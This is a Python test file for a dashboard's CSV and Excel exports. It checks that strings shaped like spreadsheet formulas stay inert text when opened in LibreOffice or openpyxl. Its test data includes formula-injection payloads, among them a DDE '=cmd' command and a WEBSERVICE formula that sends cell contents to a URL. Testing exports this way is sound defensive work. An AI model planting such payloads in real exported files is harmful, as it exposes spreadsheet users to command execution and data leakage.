"""A text that looks like a formula stays a text in a real spreadsheet, and a number a number."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from dashboard import exports, workbook
from dashboard.presentation import present

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.org","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/"&A1)',
]
TABLE = pa.table({"text": FORMULAS, "value": [-float(n) for n in range(len(FORMULAS))]})


@pytest.fixture
def office(tmp_path: Path):
    """Convert a file with LibreOffice, as a reader's double click would open it."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    # Writer alone brings `soffice` too; Calc is this library, with a window or without.
    if program is None or not (Path(program).resolve().parent / "libsclo.so").is_file():
        pytest.skip(
            "no LibreOffice Calc on this machine (Debian: apt-get install libreoffice-calc-nogui)"
        )

    def as_csv(name: str, content: bytes, reader: str = "") -> list[list[str]]:
        (tmp_path / name).write_bytes(content)
        command = [program, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
        reading = [f"--infilter={reader}"] if reader else []
        writing = ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir"]
        subprocess.run(
            [*command, *reading, *writing, str(tmp_path / "out"), str(tmp_path / name)],
            check=True,
            capture_output=True,
            timeout=120,
            env=os.environ | {"HOME": str(tmp_path)},
        )
        written = (tmp_path / "out" / name).with_suffix(".csv").read_text(encoding="utf-8")
        return list(csv.reader(io.StringIO(written, newline="")))

    return as_csv


def shown() -> list[str]:
    """What a reader must see: the very text, its apostrophe kept or taken for the mark of a text."""
    return [text.replace("\t", "").replace("\r", "") for text in FORMULAS]


def plain(cell: str) -> str:
    return cell.removeprefix("'").strip("\t\r\n")


def test_libreoffice_computes_nothing_in_our_csv(office) -> None:
    content = exports.csv([present(TABLE, (), "fr")], exports.FRENCH)
    rows = office("table.csv", content, "Text - txt - csv (StarCalc):59,34,76,1,,1036")[1:]
    assert [plain(row[0]) for row in rows] == shown()
    assert [float(row[1].replace(",", ".")) for row in rows] == TABLE["value"].to_pylist()


def test_libreoffice_computes_nothing_in_our_workbook(office) -> None:
    rows = office("table.xlsx", workbook.xlsx(present(TABLE, (), "fr"), []))[1:]
    assert [plain(row[0]) for row in rows] == shown()
    assert [float(row[1].replace(",", ".")) for row in rows] == TABLE["value"].to_pylist()


def test_openpyxl_finds_texts_and_numbers_and_no_formula() -> None:
    content = workbook.xlsx(present(TABLE, (), "fr"), [("=1+1", "=1+1")])
    book = openpyxl.load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    texts = [row[0].value for row in book.worksheets[0].iter_rows(min_row=2)]
    assert [plain(str(text).replace("_x000D_", "\r")) for text in texts] == shown()
